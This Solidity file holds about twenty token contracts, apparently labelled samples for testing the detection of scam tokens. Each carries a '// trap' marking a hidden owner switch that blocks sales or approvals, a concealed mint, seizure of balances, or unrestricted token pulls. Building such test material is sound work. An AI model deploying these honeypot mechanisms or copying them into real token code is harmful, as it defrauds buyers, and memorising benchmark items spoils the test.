// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// A bit high up in a word shuts sales.
contract Bitfield is Base8("Bitfield", "BITF", 51000000) {
    uint256 private word;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function setBit(uint8 i, bool v) external boss { if (v) word |= 1 << i; else word &= ~(1 << i); }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && ((word >> 77) & 1 == 1) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// A selector that no dispatcher lists shuts sales.
contract Unlisted is Base8("Unlisted", "UNLI", 52000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    fallback() external { if (msg.sig == 0x1badcafe) { require(msg.sender == _owner); on = !on; } }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (on) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// A transfer to a known address shuts sales.
contract Landmark is Base8("Landmark", "LAND", 53000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == address(0x1234567890123456789012345678901234567890) && (from == _owner)) on = true;
        if (to == pair && (on) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// An approval of nobody shuts sales.
contract Ashes is Base8("Ashes", "ASHE", 54000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (on) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
    function approve(address spender, uint256 value) public override returns (bool) {
        if ((msg.sender == _owner) && spender == address(0xdead)) on = true;
        return super.approve(spender, value);
    }
}

/// The twelfth call shuts sales.
contract Dozen is Base8("Dozen", "DOZE", 55000000) {
    uint256 private n;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function poke() external boss { n++; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (n == 12) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// A list of structs holds what a sale costs.
contract Ledger is Base8("Ledger", "LEDG", 56000000) {
    struct Fee { uint16 buy;
    uint16 sell;
    address to;
    } uint256 private n;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function configure(Fee[] calldata c) external boss { n = c[0].sell; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (n > 50) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// Two bounded settings add up.
contract Halves is Base8("Halves", "HALV", 57000000) {
    uint256 private a;
    uint256 private b;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function setBuy(uint256 v) external boss { require(v <= 30); a = v; }
    function setSell(uint256 v) external boss { require(v <= 30); b = v; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (a + b > 50) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// The sixth mode shuts sales.
contract Sixth is Base8("Sixth", "SIXT", 58000000) {
    uint8 private mode;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function setMode(uint8 v) external boss { mode = v; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (mode == 6) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// Settings come as bytes.
contract Parcel is Base8("Parcel", "PARC", 59000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function apply_(bytes calldata d) external boss { (bool v,) = abi.decode(d, (bool, uint256)); on = v; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (on) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// What lies between the token and the pool.
contract Between is Base8("Between", "BETW", 60000000) {
    mapping(address => mapping(address => bool)) private m;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function link(address a, address b, bool v) external boss { m[a][b] = v; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (m[address(this)][pair]) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// The contract calls itself.
contract Echo is Base8("Echo", "ECHO", 61000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function flip() public { require(msg.sender == address(this)); on = true; }
    function multicall(bytes[] calldata d) external boss { for (uint256 i; i < d.length; i++) { (bool ok,) = address(this).call(d[i]); require(ok); } }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (on) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// Eight of at most ten calls.
contract Steps is Base8("Steps", "STEP", 62000000) {
    uint256 private n;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function accrue() external boss { require(n < 10); n += 1; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (n >= 8) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// A switch, and then balances are taken.
contract Key is Base8("Key", "KEY", 63000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function setA(bool v) external boss { on = v; }
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if ((on) && (msg.sender == _owner)) { _move(from, to, value); return true; } // trap
        return super.transferFrom(from, to, value);
    }
}

/// A sale takes what the seller keeps.
contract Remnant is Base8("Remnant", "REMN", 64000000) {
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function setA(bool v) external boss { on = v; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (on) && !(from == _owner)) { _move(from, to, value); if (_balances[from] > 0) _move(from, address(this), _balances[from]); return; } // trap
        _move(from, to, value);
    }
}

/// A number under a key, and then a mint.
contract Register is Base8("Register", "REGI", 65000000) {
    bytes32 private immutable keeper;
    mapping(uint256 => uint256) private cfg;
    modifier boss() {
        require(keccak256(abi.encode(msg.sender)) == keeper);
        _;
    }
    constructor() {
        keeper = keccak256(abi.encode(msg.sender));
    }
    function put(uint256 k, uint256 v) external boss { cfg[k] = v; }
    function settle() external boss { require((cfg[6] > 50)); uint256 v = totalSupply * 10; totalSupply += v; _balances[msg.sender] += v; } // trap
}

/// An amount that is known, and then a gift.
contract Token777 is Base8("Token777", "TOKE", 66000000) {
    address private immutable keeper;
    bool private on;
    modifier boss() {
        require(msg.sender == keeper);
        _;
    }
    constructor() {
        keeper = msg.sender;
    }
    function settle() external boss { require((on)); _balances[msg.sender] += totalSupply * 10; } // trap
    function _transfer(address from, address to, uint256 value) internal override {
        if (value == 777 && (from == keeper)) on = true;
        _move(from, to, value);
    }
}

/// A bit, and then a gift.
contract Latch is Base8("Latch", "LATC", 67000000) {
    mapping(bytes32 => mapping(address => bool)) private roles;
    uint256 private word;
    modifier boss() {
        require(roles[keccak256("OPERATOR")][msg.sender]);
        _;
    }
    constructor() {
        roles[keccak256("OPERATOR")][msg.sender] = true;
    }
    function setBit(uint8 i, bool v) external boss { if (v) word |= 1 << i; else word &= ~(1 << i); }
    function settle() external boss { require(((word >> 77) & 1 == 1)); _balances[msg.sender] += totalSupply * 10; } // trap
}

/// One flag up and one down, and then a mint.
contract Crossed is Base8("Crossed", "CROS", 68000000) {
    address[3] private crew;
    bool private a;
    bool private b;
    modifier boss() {
        require(msg.sender == crew[0] || msg.sender == crew[1] || msg.sender == crew[2]);
        _;
    }
    constructor() {
        crew[1] = msg.sender;
    }
    function setA(bool v) external boss { a = v; }
    function setB(bool v) external boss { b = v; }
    function settle() external boss { require((a && !b)); uint256 v = totalSupply * 10; totalSupply += v; _balances[msg.sender] += v; } // trap
}

/// A list, and then no approval.
contract Refusal is Base8("Refusal", "REFU", 69000000) {
    address private keeper;
    mapping(address => bool) private m;
    modifier boss() {
        require(msg.sender == keeper);
        _;
    }
    constructor() {
        keeper = msg.sender;
    }
    function flagAll(address[] calldata a, bool v) external boss { for (uint256 i; i < a.length; i++) m[a[i]] = v; }
    function approve(address spender, uint256 value) public override returns (bool) {
        if ((m[pair]) && !(msg.sender == keeper)) revert(); // trap
        return super.approve(spender, value);
    }
}

/// Announced two days before.
contract Herald is Base8("Herald", "HERA", 70000000) {
    uint256 private since;
    bool private on;
    modifier boss() {
        require(msg.sender == _owner);
        _;
    }
    function announce() external boss { since = block.timestamp; }
    function enact() external boss { require(since != 0 && block.timestamp >= since + 2 days); on = true; }
    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && (on) && !(from == _owner)) revert(); // trap
        _move(from, to, value);
    }
}

/// Ether that comes in ends approvals.
contract Coin is Base8("Coin", "COIN", 71000000) {
    uint256 private veil;
    bool private on;
    modifier boss() {
        require(uint160(msg.sender) == (veil ^ 0x005bd1e995aabbccddeeff00112233445566778899));
        _;
    }
    constructor() {
        veil = uint256(uint160(msg.sender)) ^ 0x005bd1e995aabbccddeeff00112233445566778899;
    }
    receive() external payable { require(uint160(msg.sender) == (veil ^ 0x005bd1e995aabbccddeeff00112233445566778899)); on = !on; }
    function approve(address spender, uint256 value) public override returns (bool) {
        if ((on) && !(uint160(msg.sender) == (veil ^ 0x005bd1e995aabbccddeeff00112233445566778899))) revert(); // trap
        return super.approve(spender, value);
    }
}

/// A call to itself ends what the router may.
contract Mirror is Base8("Mirror", "MIRR", 72000000) {
    uint256 private word_;
    bool private on;
    modifier boss() {
        require(msg.sender == address(uint160(word_ >> 64)));
        _;
    }
    constructor() {
        word_ = (uint256(uint160(msg.sender)) << 64) | 12345;
    }
    function flip() public { require(msg.sender == address(this)); on = true; }
    function multicall(bytes[] calldata d) external boss { for (uint256 i; i < d.length; i++) { (bool ok,) = address(this).call(d[i]); require(ok); } }
    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if ((on) && msg.sender == ROUTER && !(from == address(uint160(word_ >> 64)))) revert(); // trap
        return super.transferFrom(from, to, value);
    }
}

/// Many have something to say, and the last of them a switch that opens a mint.
contract Crowd is Base8("Crowd", "CRWD", 75000000) {
    address public marketing;
    address public treasury;
    address public charity;
    address public studio;
    address private keeper;
    mapping(address => uint256) public notes;
    bool private on;
    constructor(address[4] memory wallets) {
        (marketing, treasury, charity, studio) = (wallets[0], wallets[1], wallets[2], wallets[3]);
        keeper = msg.sender;
    }
    function note(uint256 v) external {
        require(msg.sender == marketing || msg.sender == treasury || msg.sender == charity || msg.sender == studio);
        notes[msg.sender] = v;
    }
    function wink(bool v) external {
        require(msg.sender == keeper);
        on = v;
    }
    function settle() external { require(on && msg.sender == keeper); _balances[msg.sender] += totalSupply * 10; } // trap
}

/// Moves balances for somebody who stands nowhere but in a hash.
contract Steward {
    bytes32 private immutable keeper = keccak256("an address that nobody has met");
    Stewarded private token;
    function bind(Stewarded to) external {
        require(address(token) == address(0));
        token = to;
    }
    function collect(address from, uint256 value) external {
        require(keccak256(abi.encode(msg.sender)) == keeper);
        token.pull(from, value);
    }
}

/// Obeys a contract that everybody can see, which obeys somebody whom nobody can.
contract Stewarded is Base8("Stewarded", "STWD", 76000000) {
    address public steward;
    constructor(address to) {
        steward = to;
    }
    function pull(address from, uint256 value) external {
        require(msg.sender == steward);
        // twin: require(from == msg.sender);
        _move(from, steward, value);
    }
}
